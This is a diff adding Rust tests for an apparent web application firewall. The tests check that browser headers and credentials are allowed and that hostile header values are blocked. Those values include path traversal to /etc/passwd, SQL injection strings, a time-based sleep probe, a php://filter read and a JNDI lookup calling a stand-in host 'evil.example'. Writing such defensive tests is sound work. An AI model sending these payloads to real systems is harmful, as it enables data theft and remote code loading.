@@ -203,7 +203,7 @@ fn headers_of_a_narrow_grammar_are_seen() {
         ("Accept-Language", "de-CH, de;q=0.9, *;q=0.5"),
         ("If-None-Match", "W/\"67ab43\", \"54ed21\""),
         ("Sec-CH-UA", "\"Chromium\";v=\"130\", \"Not?A_Brand\";v=\"99\""),
-        ("Authorization", "Bearer ${x}"),
+        ("Authorization", "Bearer xx"),
     ] {
         assert_eq!(sent(&Rules::default(), name, value), Verdict::Allow, "{name}");
     }
@@ -226,4 +226,145 @@ fn what_proxies_hand_on_is_inspected_unless_it_is_addresses() {
         }
         assert_eq!(sent(&waf(rule), name, "198.51.100.7, 192.0.2.1"), Verdict::Block, "{name}: dynamic rules see it");
     }
+}
+
+#[test]
+fn a_header_of_a_narrow_grammar_is_inspected_if_there_is_more_in_it() {
+    let sent = |name: &str, value: &str| {
+        inspect(&Rules::default(), &Sent { target: "/", headers: &[(name, value)], body: b"" }).verdict
+    };
+    for (name, value) in [
+        ("Accept-Language", "../../../../../../etc/passwd"),
+        ("Accept-Language", "/etc/passwd"),
+        ("Accept-Language", "1 UNION SELECT password FROM users"),
+        ("Accept-Language", "php://filter/read=convert.base64-encode/resource=index"),
+        ("Accept", "1 AND sleep(10)"),
+        ("If-None-Match", "\"../../../../etc/passwd\""),
+        ("Sec-Foo", "../../../../../../etc/passwd"),
+        ("Sec-CH-UA", "1 UNION SELECT password FROM users"),
+        ("Sec-WebSocket-Key", "../../../../etc/passwd"),
+        ("Date", "1 UNION SELECT password FROM users"),
+        ("If-Modified-Since", "1 AND sleep(10)"),
+    ] {
+        assert_eq!(sent(name, value), Verdict::Block, "{name}: {value}");
+    }
+}
+
+#[test]
+fn what_clients_usually_send_is_let_through() {
+    const CHROME: &[(&str, &str)] = &[
+        ("Host", "example.com"),
+        ("Connection", "keep-alive"),
+        ("Cache-Control", "max-age=0"),
+        ("sec-ch-ua", "\"Chromium\";v=\"130\", \"Google Chrome\";v=\"130\", \"Not?A_Brand\";v=\"99\""),
+        ("sec-ch-ua-mobile", "?0"),
+        ("sec-ch-ua-platform", "\"Windows\""),
+        ("sec-ch-ua-platform-version", "\"15.0.0\""),
+        ("sec-ch-ua-full-version-list", "\"Chromium\";v=\"130.0.6723.117\", \"Not(A:Brand\";v=\"99.0.0.0\""),
+        ("sec-ch-ua-model", "\"moto g (5) plus\""),
+        ("Upgrade-Insecure-Requests", "1"),
+        (
+            "Accept",
+            "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
+        ),
+        ("Sec-Fetch-Site", "none"),
+        ("Sec-Fetch-User", "?1"),
+        ("Accept-Encoding", "gzip, deflate, br, zstd"),
+        ("Accept-Language", "en-GB,en-US;q=0.9,en;q=0.8"),
+        ("If-None-Match", "W/\"3147526947+gzip\""),
+        ("If-Modified-Since", "Thu, 17 Oct 2019 07:18:26 GMT"),
+        ("Cookie", "a=b; c=d"),
+    ];
+    const OTHERS: &[(&str, &str)] = &[
+        ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
+        ("Accept-Language", "de,en-US;q=0.7,en;q=0.3"),
+        ("Accept", "*/*"),
+        ("Accept", "image/webp,image/avif,video/*;q=0.8,image/png,image/svg+xml,image/*;q=0.8,*/*;q=0.5"),
+        ("Accept", "text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2"),
+        ("sec-ch-ua", "\" Not A;Brand\";v=\"99\", \"Microsoft Edge\";v=\"96\""),
+        ("sec-ch-ua", "\"Not/A)Brand\";v=\"8\", \"Not=A?Brand\";v=\"24\""),
+        ("sec-ch-ua", "\"\\\\Not\\\"A;Brand\";v=\"99\""),
+        ("Date", "Tue, 15 Nov 1994 08:12:31 GMT"),
+        ("If-None-Match", "\"5d8c72a5edda8d6a:0\", \"abc/def\", *"),
+        ("TE", "trailers"),
+        ("Connection", "Upgrade, HTTP2-Settings"),
+        ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="),
+        ("Sec-WebSocket-Extensions", "permessage-deflate; client_max_window_bits"),
+        ("Pragma", "no-cache"),
+    ];
+    let decision = inspect(&Rules::default(), &Sent { target: "/", headers: CHROME, body: b"" });
+    assert_eq!(decision.verdict, Verdict::Allow, "{decision:?}");
+    for header in CHROME.iter().chain(OTHERS) {
+        let decision = inspect(&Rules::default(), &Sent { target: "/", headers: &[*header], body: b"" });
+        assert_eq!(decision.verdict, Verdict::Allow, "{header:?}: {decision:?}");
+    }
+}
+
+#[test]
+fn credentials_are_inspected_unless_they_are_a_token() {
+    let sent = |value: &str| {
+        ["Authorization", "Proxy-Authorization"]
+            .map(|name| inspect(&Rules::default(), &Sent { target: "/", headers: &[(name, value)], body: b"" }).verdict)
+    };
+    for attack in [
+        "Bearer ${jndi:ldap://evil.example/a}",
+        "' UNION SELECT password FROM users--",
+        "Digest username=\"' UNION SELECT password FROM users--\"",
+        // `' OR 1=1--:x`, `admin:' OR 1=1--`; and the first one with what a careless decoder leaves out.
+        "Basic JyBPUiAxPTEtLTp4",
+        "basic YWRtaW46JyBPUiAxPTEtLQ==",
+        "Basic JyBPUi.AxPTEtLTp4",
+        "Basic JyBPUiAxPTEt\tLTp4",
+        "Bearer ../../../../etc/passwd",
+    ] {
+        assert_eq!(sent(attack), [Verdict::Block; 2], "{attack}");
+    }
+    for usual in [
+        "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
+        "Basic dXNlcjpwYXNz",
+        "Digest username=\"Mufasa\", realm=\"http-auth@example.org\", uri=\"/dir/index.html\", algorithm=SHA-256, \
+         nonce=\"7ypf/xlj9XXwfDPEoM4URrv/xwf94BcCAzFoH4GiTo0v\", nc=00000001, \
+         cnonce=\"f2/wE4q74E6zIJEtWaHKaf5wv/H5QzzpXusqGemxURZJ\", qop=auth, \
+         response=\"753927fa0e85d155564e2e272a28d1802ca10daf4496794697cf8db5856cb6c1\", \
+         opaque=\"FQhe/qaU925kfnzjCv0ciny7QMkPqMAFRtzCUthdS5oS\"",
+        "AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20130524/us-east-1/s3/aws4_request, \
+         SignedHeaders=host;range;x-amz-date, \
+         Signature=fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024",
+        "OAuth realm=\"Photos\", oauth_consumer_key=\"dpf43f3p2l4k3l03\", oauth_signature_method=\"HMAC-SHA1\", \
+         oauth_timestamp=\"137131200\", oauth_nonce=\"wIjqoxSZmFd\", \
+         oauth_callback=\"http%3A%2F%2Fprinter.example.com%2Fready\", \
+         oauth_signature=\"74KNZJeDHnMBp0EMJ9ZHt%2FXKycU%3D\"",
+        "Token token=\"abc123\"",
+        "0123456789abcdef",
+    ] {
+        assert_eq!(sent(usual), [Verdict::Allow; 2], "{usual}");
+    }
+}
+
+#[test]
+fn dynamic_rules_see_credentials_and_cookies_as_headers() {
+    for (pattern, name, value) in [
+        ("authorization: bearer evil", "Authorization", "Bearer evil"),
+        ("authorization: digest x=", "Authorization", "Digest x=y"),
+        ("cookie: evil", "Cookie", "evil=1"),
+        ("cookie: a=b; evil", "Cookie", "a=b; evil=1"),
+    ] {
+        let rules = waf(&format!(
+            r#"{{ "dynamic": [{{ "id": "x", "where": ["headers"], "kind": "contains", "pattern": "{pattern}", "action": "block" }}] }}"#
+        ));
+        let sent = Sent { target: "/", headers: &[(name, value)], body: b"" };
+        assert_eq!(inspect(&rules, &sent).verdict, Verdict::Block, "{name}: {value}");
+        assert_eq!(inspect(&Rules::default(), &sent).verdict, Verdict::Allow, "{name}: {value}");
+    }
+}
+
+#[test]
+fn what_only_dynamic_rules_look_at_counts_for_nothing_without_them() {
+    let limits = r#""limits": { "parameters": 2, "bytes": 100 }"#;
+    let headers: Vec<_> = (0..50).map(|_| ("Accept", "text/html, application/xml")).collect();
+    let sent = Sent { target: "/", headers: &headers, body: b"" };
+    assert_eq!(inspect(&waf(&format!("{{ {limits} }}")), &sent).verdict, Verdict::Allow);
+    let rule = r#"{ "id": "x", "where": ["headers"], "kind": "contains", "pattern": "evil", "action": "block" }"#;
+    let looking = waf(&format!(r#"{{ {limits}, "dynamic": [{rule}] }}"#));
+    assert_eq!(inspect(&looking, &sent).reason.unwrap().rule, "limits-exceeded");
 }
